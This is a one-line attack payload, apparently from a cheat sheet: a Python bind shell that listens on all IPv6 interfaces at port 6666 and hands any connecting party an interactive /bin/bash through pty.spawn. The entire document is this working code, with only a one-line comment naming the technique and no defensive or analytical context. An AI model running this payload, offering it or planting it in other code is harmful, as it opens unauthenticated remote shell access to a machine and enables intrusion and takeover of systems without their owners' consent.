# technique: IPv6 bind shell on [::] using pty.spawn for an interactive tty
import socket,os,pty;s=socket.socket(socket.AF_INET6,socket.SOCK_STREAM);s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);s.bind(("::",6666));s.listen(1);c,a=s.accept();[os.dup2(c.fileno(),i) for i in(0,1,2)];pty.spawn("/bin/bash")
